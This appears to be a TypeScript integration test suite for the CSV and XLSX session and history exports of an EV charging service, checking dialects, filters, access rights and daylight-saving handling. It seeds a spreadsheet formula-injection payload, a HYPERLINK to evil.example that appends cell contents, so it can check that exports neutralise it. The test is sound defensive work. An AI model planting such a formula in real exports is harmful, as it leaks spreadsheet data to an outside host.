import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { DateTime } from 'luxon';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SampleWriter } from '../../src/history/sample-writer.ts';
import type { Session } from '../../src/sessions/model.ts';
import { SessionRepository } from '../../src/sessions/session-repository.ts';
import { SessionService } from '../../src/sessions/session-service.ts';
import { sessionPages } from '../../src/exports/session-pages.ts';
import { addUser, bearer, login, startAuthGateway, type TestUser } from '../support/auth.ts';
import { BOTH_DATABASES, type DatabaseTarget } from '../support/databases.ts';
import type { TestGateway } from '../support/gateway.ts';

const ZONE = 'Europe/Berlin';
const DAY = 86_400_000;
const T0 = Date.parse('2026-03-01T08:00:40Z');
const FORMULA_TAG = '=HYPERLINK("https://evil.example/?"&A1,"click")';
const FORMULA_NOTE = '+SUM(1,2)';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** 40 sessions over March 2026 (one across the change to summer time), with the fields a CSV must quote or neutralise. */
function seed(): Session[] {
  return Array.from({ length: 40 }, (_, i) => ({
    id: `10000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    chargepointId: i % 2 ? '4' : '3',
    start: T0 + i * (DAY * 0.75),
    end: i === 39 ? null : T0 + i * (DAY * 0.75) + 2 * 3_600_000 + 30_000,
    energy: i === 7 ? 0 : 1234.567 * ((i * 7) % 11) + 0.5,
    chargingMs: 3_600_000 + i * 61_000,
    meanPower: null,
    peakPower: i === 3 ? null : 11_000.5,
    socStart: i % 4 ? 20.5 : null,
    socEnd: i % 4 ? 80 : null,
    chargeModes: i % 5 ? ['pv', 'instant'] : [],
    rfidTag: i === 11 ? FORMULA_TAG : i % 3 ? '04A1B2C3' : null,
    vehicle: i === 13 ? { id: '7', name: 'Zoé, "die Blaue"\nzweite Zeile' } : { id: i % 2 ? '2' : '1', name: i % 2 ? 'Zoe' : 'Würfel' },
    userId: null,
    cost: i === 5 ? null : Math.round(0.3 * (1234.567 * ((i * 7) % 11) + 0.5)) / 1000,
    meterStart: 1_250_000 + 5000 * i,
    meterLast: i === 2 ? null : 1_250_000 + 5000 * i + 1234.5,
    source: 'recorder',
    externalKey: null,
    lastSeenAt: T0 + i * DAY,
    lastCharging: false,
    quality: i === 9 ? 'incomplete' : i % 6 === 1 ? 'corrected' : i === 0 ? null : 'measured',
  }));
}

type Json = Record<string, unknown> & { id: string };

/** What each CSV column holds, read back to the JSON API's value (header languages and dialects aside). */
function backToJson(row: string[], decimalComma: boolean): Record<string, unknown> {
  const num = (text: string | undefined) =>
    text === undefined || text === '' ? null : Number(decimalComma ? text.replace(',', '.') : text);
  const text = (cell: string | undefined) => (cell === undefined || cell === '' ? null : cell);
  // The local time with its offset from UTC (the last three columns): unambiguous in the repeated autumn hour too.
  const time = (cell: string | undefined, offset: string | undefined) =>
    cell
      ? DateTime.fromFormat(`${cell} ${offset}`, "yyyy-MM-dd HH:mm:ss 'UTC'ZZ", { setZone: true })
          .toUTC()
          .toISO({ suppressMilliseconds: false })
      : null;
  const kwhToWh = (cell: string | undefined) => {
    const kwh = num(cell);
    return kwh === null ? null : Math.round(kwh * 1e6) / 1e3;
  };
  const [
    id,
    chargepointId,
    start,
    end,
    chargingTime,
    energy,
    ,
    ,
    meanPower,
    peakPower,
    socStart,
    socEnd,
    modes,
    tag,
    vehicleId,
    vehicleName,
  ] = row;
  const [
    user,
    cost,
    quality,
    corrected,
    recordedId,
    recordedName,
    note,
    correctedAt,
    correctedBy,
    startOffset,
    endOffset,
    correctedAtOffset,
  ] = row.slice(16);
  return {
    id,
    chargepointId,
    start: time(start, startOffset),
    end: time(end, endOffset),
    chargingTime: num(chargingTime),
    energy: kwhToWh(energy),
    meanPower: num(meanPower),
    peakPower: num(peakPower),
    socStart: num(socStart),
    socEnd: num(socEnd),
    chargeModes: modes ? modes.split(' ') : [],
    rfidTag: text(tag),
    vehicle: vehicleId || vehicleName ? { id: text(vehicleId), name: text(vehicleName) } : null,
    user: text(user),
    cost: num(cost),
    quality: text(quality),
    correction: corrected
      ? {
          note: text(note),
          correctedAt: time(correctedAt, correctedAtOffset),
          correctedBy: text(correctedBy),
          original: { id: text(recordedId), name: text(recordedName) },
        }
      : null,
  };
}

/** The JSON API's session as a CSV carries it: times to the second, text neutralised as a spreadsheet needs. */
function asExported(s: Json): Record<string, unknown> {
  const second = (iso: unknown) => (typeof iso === 'string' ? new Date(Math.floor(Date.parse(iso) / 1000) * 1000).toISOString() : null);
  const safe = (v: unknown) => (typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
  const vehicle = s.vehicle as { id: string | null; name: string | null } | null;
  const correction = s.correction as {
    note: string | null;
    correctedAt: string;
    correctedBy: { name: string | null };
    original: { vehicle: { id: string | null; name: string | null } | null };
  } | null;
  const user = s.user as { id: string; name: string | null } | null;
  return {
    id: s.id,
    chargepointId: s.chargepointId,
    start: second(s.start),
    end: second(s.end),
    chargingTime: s.chargingTime,
    energy: s.energy,
    meanPower: s.meanPower,
    peakPower: s.peakPower,
    socStart: s.socStart,
    socEnd: s.socEnd,
    chargeModes: s.chargeModes,
    rfidTag: safe(s.rfidTag),
    vehicle: vehicle && { id: safe(vehicle.id), name: safe(vehicle.name) },
    user: user ? (user.name ?? user.id) : null,
    cost: s.cost,
    quality: s.quality,
    correction: correction && {
      note: safe(correction.note),
      correctedAt: second(correction.correctedAt),
      correctedBy: safe(correction.correctedBy.name),
      original: { id: correction.original.vehicle?.id ?? null, name: correction.original.vehicle?.name ?? null },
    },
  };
}

const DIALECTS = [
  { query: '', delimiter: ',', decimalComma: false, lang: 'en', bom: false },
  { query: 'delimiter=%3B&decimal=comma&lang=de&bom=true', delimiter: ';', decimalComma: true, lang: 'de', bom: true },
  { query: 'delimiter=%3B', delimiter: ';', decimalComma: false, lang: 'en', bom: false },
  { query: 'decimal=comma&bom=true', delimiter: ',', decimalComma: true, lang: 'en', bom: true },
  { query: 'lang=de', delimiter: ',', decimalComma: false, lang: 'de', bom: false },
] as const;

describe.each(BOTH_DATABASES)('session and history exports on %s', (_name, makeTarget) => {
  let target: DatabaseTarget;
  let gw: TestGateway;
  let owner: TestUser;
  let ownerAuth: Record<string, string>;
  const sessions = seed();
  const own = sessions.filter((s, i) => s.chargepointId === '4' && i % 4 === 1).map((s) => s.id);
  const admin = (path: string) => gw.http.get(path).set('x-api-key', gw.adminKey);
  const jsonSessions = async (query: string, auth: Record<string, string> = { 'x-api-key': gw.adminKey }) =>
    (
      await gw.http
        .get(`/api/v1/sessions?limit=500${query.includes('sort=') ? '' : '&sort=start'}&${query}`)
        .set(auth)
        .expect(200)
    ).body.items as Json[];
  /** exceljs reads a number with a time format as the date it shows (days since 1899-12-30); back to seconds. */
  const durationSeconds = (value: unknown) => (value instanceof Date ? (value.getTime() - Date.UTC(1899, 11, 30)) / 1000 : NaN);

  beforeAll(async () => {
    target = await makeTarget('exports');
    const repository = new SessionRepository(target.db);
    for (const s of sessions) await repository.upsert(s);
    gw = await startAuthGateway({
      databaseUrl: target.url,
      store: 'memory',
      env: { RECORDER_ENABLED: 'false', TIME_ZONE: ZONE, TARIFF_CURRENCY: 'EUR' },
    });
    owner = await addUser(gw, 'fahrer', 'user', ['3', '4']);
    for (const id of own) await repository.attributeUser(id, owner.id);
    ownerAuth = bearer((await login(gw, owner)).accessToken);
    // The owner corrects one of theirs with a note a spreadsheet would run; an admin corrects another's vehicle.
    await gw.http.patch(`/api/v1/sessions/${own[0]}`).set(ownerAuth).send({ vehicleId: '1', note: FORMULA_NOTE }).expect(200);
    await gw.http
      .patch(`/api/v1/sessions/${sessions[20]!.id}`)
      .set('x-api-key', gw.adminKey)
      .send({ note: 'Privatfahrt; "Urlaub"' })
      .expect(200);
  });
  afterAll(async () => {
    await gw?.close();
    await target?.dispose();
  });

  it.each(DIALECTS)('writes CSV ($query) that parses back to the sessions the JSON API returns', async (dialect) => {
    const res = await admin(`/api/v1/sessions/export.csv${dialect.query ? `?${dialect.query}` : ''}`).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toBe('attachment; filename="charging-sessions_start_now.csv"');
    expect(res.text.startsWith('\uFEFF')).toBe(dialect.bom);
    expect(res.text.endsWith('\r\n')).toBe(true);
    const records = parse(res.text, { delimiter: dialect.delimiter, bom: true, relax_column_count: false }) as string[][];
    const [header, ...rows] = records;
    expect(header).toHaveLength(28);
    expect(header!.slice(25)).toEqual(
      dialect.lang === 'de'
        ? ['Beginn UTC-Offset', 'Ende UTC-Offset', 'Korrigiert am UTC-Offset']
        : ['Start UTC offset', 'End UTC offset', 'Corrected at UTC offset'],
    );
    expect(header!.slice(2, 6)).toEqual(
      dialect.lang === 'de'
        ? [`Beginn (${ZONE})`, `Ende (${ZONE})`, 'Ladedauer (s)', 'Energie (kWh)']
        : [`Start (${ZONE})`, `End (${ZONE})`, 'Charging time (s)', 'Energy (kWh)'],
    );
    expect(header![17]).toBe(dialect.lang === 'de' ? 'Kosten (EUR)' : 'Cost (EUR)');
    const expected = (await jsonSessions('')).map(asExported);
    expect(rows.map((row) => backToJson(row, dialect.decimalComma))).toEqual(expected);
  });

  it.each(['start', '-start', 'energy', '-energy'])('reads the sessions in keyset pages of any size, sorted by %s', async (sort) => {
    const repository = new SessionRepository(target.db);
    const selection = new SessionService(repository, { timeZone: ZONE, currency: 'EUR' }).selection({ sort }, null, undefined, 'start');
    const expected = (await jsonSessions(`sort=${sort}`)).map((s) => s.id);
    for (const size of [1, 7, 40]) {
      const ids: string[] = [];
      for await (const page of sessionPages(repository, selection, size)) ids.push(...page.map((row) => row.session.id));
      expect(ids).toEqual(expected);
    }
  });

  it('neutralises text a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    const res = await admin('/api/v1/sessions/export.csv?delimiter=%3B&decimal=comma').expect(200);
    const rows = parse(res.text, { delimiter: ';' }) as string[][];
    const byId = new Map(rows.map((row) => [row[0], row]));
    expect(byId.get(sessions[11]!.id)![13]).toBe(`'${FORMULA_TAG}`);
    expect(byId.get(own[0])![22]).toBe(`'${FORMULA_NOTE}`);
    expect(res.text).not.toMatch(/[;\n]=HYPERLINK/);
    // Written numbers keep their form (a decimal comma, no quote, no apostrophe).
    expect(byId.get(sessions[1]!.id)![5]).toBe(String(sessions[1]!.energy / 1000).replace('.', ','));
    // Quotes, delimiters and line breaks inside text are quoted, not split.
    expect(byId.get(sessions[13]!.id)![15]).toBe('Zoé, "die Blaue"\nzweite Zeile');
    expect(byId.get(sessions[20]!.id)![22]).toBe('Privatfahrt; "Urlaub"');
  });

  it('exports with the filters of listSessions, in the requested zone, named after the range', async () => {
    const query = 'chargepoint=4&vehicle=2&tag=04A1B2C3&from=2026-03-10&to=2026-03-25&tz=UTC&sort=-energy';
    const res = await admin(`/api/v1/sessions/export.csv?${query}`).expect(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="charging-sessions_2026-03-10_2026-03-25.csv"');
    const [header, ...rows] = parse(res.text) as string[][];
    expect(header![2]).toBe('Start (UTC)');
    const expected = (await jsonSessions(query)).map((s) => s.id);
    expect(expected.length).toBeGreaterThan(2);
    expect(rows.map((row) => row[0])).toEqual(expected);
    expect(rows[0]![2]).toBe(
      DateTime.fromMillis(sessions.find((s) => s.id === expected[0])!.start, { zone: 'UTC' }).toFormat('yyyy-MM-dd HH:mm:ss'),
    );
    // A filter that matches nothing is a file with only the header.
    const empty = await admin('/api/v1/sessions/export.csv?from=2020-01-01&to=2020-02-01').expect(200);
    expect(parse(empty.text)).toHaveLength(1);
  });

  it('writes XLSX with real numbers, number formats, a frozen header, a filter and a totals row', async () => {
    const res = await admin('/api/v1/sessions/export.xlsx?lang=de').responseType('blob').expect(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toBe('attachment; filename="charging-sessions_start_now.xlsx"');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Ladevorgänge');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:AB41');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 6)).toEqual([
      'Ladevorgang',
      'Ladepunkt',
      `Beginn (${ZONE})`,
      `Ende (${ZONE})`,
      'Ladedauer (h:mm:ss)',
      'Energie (kWh)',
    ]);
    const json = await jsonSessions('');
    expect(sheet.rowCount).toBe(json.length + 2);
    json.forEach((s, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).value).toBe(s.id);
      const start = row.getCell(3).value as Date;
      // The cell shows the local wall-clock time: its UTC fields are Berlin's.
      expect(DateTime.fromJSDate(start, { zone: 'UTC' }).toFormat('yyyy-MM-dd HH:mm:ss')).toBe(
        DateTime.fromISO(String(s.start), { zone: ZONE }).toFormat('yyyy-MM-dd HH:mm:ss'),
      );
      expect(durationSeconds(row.getCell(5).value)).toBeCloseTo(Number(s.chargingTime), 3);
      expect(row.getCell(6).value).toBeCloseTo(Number(s.energy) / 1000, 9);
      expect(row.getCell(18).value).toBe(s.cost);
    });
    const first = sheet.getRow(2);
    expect([first.getCell(3).numFmt, first.getCell(5).numFmt, first.getCell(6).numFmt, first.getCell(18).numFmt]).toEqual([
      'yyyy-mm-dd hh:mm:ss',
      '[h]:mm:ss',
      '0.000',
      '#,##0.00 "€"',
    ]);
    const totals = sheet.getRow(json.length + 2);
    expect(totals.getCell(1).value).toBe(`Summe (${json.length} Ladevorgänge)`);
    const energy = totals.getCell(6).value as { formula: string; result: number };
    expect(energy.formula).toBe(`SUBTOTAL(109,F2:F${json.length + 1})`);
    expect(energy.result).toBeCloseTo(json.reduce((sum, s) => sum + Number(s.energy), 0) / 1000, 6);
    expect((totals.getCell(18).value as { result: number }).result).toBeCloseTo(
      json.reduce((sum, s) => sum + Number(s.cost ?? 0), 0),
      6,
    );
  });

  it('lets a user export only their own sessions, in every format', async () => {
    const csv = await gw.http.get('/api/v1/sessions/export.csv').set(ownerAuth).expect(200);
    const [, ...rows] = parse(csv.text) as string[][];
    expect(rows.map((row) => row[0])).toEqual(own);
    const xlsx = await gw.http.get('/api/v1/sessions/export.xlsx').set(ownerAuth).responseType('blob').expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body);
    const ids = workbook.worksheets[0]!.getColumn(1).values.slice(2, -1);
    expect(ids).toEqual(own);
    // Another user's chargepoint is refused as in listSessions; another user sees nothing of the owner's.
    const narrow = await addUser(gw, 'nur3', 'user', ['3']);
    const narrowAuth = bearer((await login(gw, narrow)).accessToken);
    await gw.http.get('/api/v1/sessions/export.csv?chargepoint=4').set(narrowAuth).expect(403);
    await gw.http.get('/api/v1/sessions/export.xlsx?chargepoint=4').set(narrowAuth).expect(403);
    const theirs = await gw.http.get('/api/v1/sessions/export.csv').set(narrowAuth).expect(200);
    expect(parse(theirs.text)).toHaveLength(1);
    await gw.http.get('/api/v1/sessions/export.csv').expect(401);
    await gw.http.get('/api/v1/sessions/export.xlsx').expect(401);
    await gw.http.get('/api/v1/history/export.csv?series=grid.power').expect(401);
  });

  it('exports history buckets as CSV equal to getHistory, with units and quality', async () => {
    const writer = new SampleWriter(target.db);
    const h0 = Date.parse('2026-03-02T08:00:00Z');
    await writer.write(
      Array.from({ length: 24 }, (_, i) => [
        { series: 'grid.power', ts: h0 + i * 600_000, value: 1000 + 10 * i },
        { series: 'chargepoint.3.energyImported', ts: h0 + i * 600_000, value: i === 10 ? 0 : 5000 + 100 * i },
      ]).flat(),
    );
    const query = 'series=grid.power,chargepoint.3.energyImported&start=2026-03-02T09:00&end=2026-03-02T13:00&interval=hour';
    const json = (await admin(`/api/v1/history?${query}`).expect(200)).body as {
      series: { id: string; points: Record<string, number | string | null>[] }[];
    };
    const res = await admin(`/api/v1/history/export.csv?${query}&delimiter=%3B&decimal=comma&lang=de`).expect(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="history_2026-03-02_2026-03-02.csv"');
    const [header, ...rows] = parse(res.text, { delimiter: ';' }) as string[][];
    expect(header).toEqual([
      `Beginn (${ZONE})`,
      'grid.power mittlere Leistung (W)',
      'grid.power höchste Leistung (W)',
      'grid.power niedrigste Leistung (W)',
      'chargepoint.3.energyImported Energie (Wh)',
      'chargepoint.3.energyImported Qualität',
      'Beginn UTC-Offset',
    ]);
    const num = (cell: string) => (cell === '' ? null : Number(cell.replace(',', '.')));
    const [power, energy] = json.series;
    expect(rows).toHaveLength(power!.points.length);
    rows.forEach((row, b) => {
      const p = power!.points[b]!;
      const e = energy!.points[b]!;
      expect(row[0]).toBe(String(p.start).slice(0, 19).replace('T', ' '));
      expect(row[6]).toBe('UTC+01:00');
      expect([num(row[1]!), num(row[2]!), num(row[3]!), num(row[4]!), row[5] || null]).toEqual([
        p.avgPower,
        p.maxPower,
        p.minPower,
        e.energy,
        e.quality,
      ]);
    });
    expect(rows.map((row) => row[5])).toContain('corrected');
  });

  // Last of the suite: the two sessions it adds would change the counts above.
  it('tells the hour repeated by the end of summer time (2026-10-25, Berlin) apart in CSV and XLSX', async () => {
    const repository = new SessionRepository(target.db);
    // Both start at 02:30 local time: first in summer time (00:30 UTC), then an hour later in winter time.
    const first = {
      ...sessions[1]!,
      id: '10000000-0000-4000-8000-000000000901',
      start: Date.parse('2026-10-25T00:30:00Z'),
      end: Date.parse('2026-10-25T01:15:00Z'),
    };
    const second = {
      ...first,
      id: '10000000-0000-4000-8000-000000000902',
      start: Date.parse('2026-10-25T01:30:00Z'),
      end: Date.parse('2026-10-25T02:45:00Z'),
    };
    await repository.upsert(first);
    await repository.upsert(second);
    const range = 'from=2026-10-25&to=2026-10-26';
    const csv = await admin(`/api/v1/sessions/export.csv?${range}`).expect(200);
    const [, ...rows] = parse(csv.text) as string[][];
    expect(rows.map((row) => [row[0], row[2], row[25], row[3], row[26]])).toEqual([
      [first.id, '2026-10-25 02:30:00', 'UTC+02:00', '2026-10-25 02:15:00', 'UTC+01:00'],
      [second.id, '2026-10-25 02:30:00', 'UTC+01:00', '2026-10-25 03:45:00', 'UTC+01:00'],
    ]);
    expect(rows.map((row) => backToJson(row, false).start)).toEqual(['2026-10-25T00:30:00.000Z', '2026-10-25T01:30:00.000Z']);
    const xlsx = await admin(`/api/v1/sessions/export.xlsx?${range}`).responseType('blob').expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(26).value).toBe('Start UTC offset');
    const cells = [2, 3].map((r) => sheet.getRow(r)).map((row) => [row.getCell(3).value, row.getCell(26).value]);
    // The date cells hold the local wall clock (equal for both); the offsets beside them tell them apart.
    expect(cells).toEqual([
      [new Date('2026-10-25T02:30:00Z'), 'UTC+02:00'],
      [new Date('2026-10-25T02:30:00Z'), 'UTC+01:00'],
    ]);
  });

  it.each([
    ['/api/v1/sessions/export.csv?delimiter=%7C', 'delimiter'],
    ['/api/v1/sessions/export.csv?decimal=dot', 'decimal'],
    ['/api/v1/sessions/export.csv?lang=fr', 'lang'],
    ['/api/v1/sessions/export.csv?bom=maybe', 'bom'],
    ['/api/v1/sessions/export.csv?from=2026-02-30', 'from'],
    ['/api/v1/sessions/export.csv?from=2026-03-02&to=2026-03-01', 'to'],
    ['/api/v1/sessions/export.csv?sort=end', 'sort'],
    ['/api/v1/sessions/export.csv?tz=Mars%2FOlympus', 'tz'],
    ['/api/v1/sessions/export.csv?limit=5', 'limit'],
    ['/api/v1/sessions/export.xlsx?tag=%01x', 'tag'],
    ['/api/v1/sessions/export.xlsx?delimiter=%3B', 'delimiter'],
    ['/api/v1/history/export.csv', 'series'],
    ['/api/v1/history/export.csv?series=grid.power&interval=fortnight', 'interval'],
    ['/api/v1/history/export.csv?series=nope', 'series'],
  ])('answers %s with a 400 problem naming %s', async (path, name) => {
    const res: Response = await admin(path).expect(400);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(JSON.stringify(res.body)).toContain(name);
  });
});
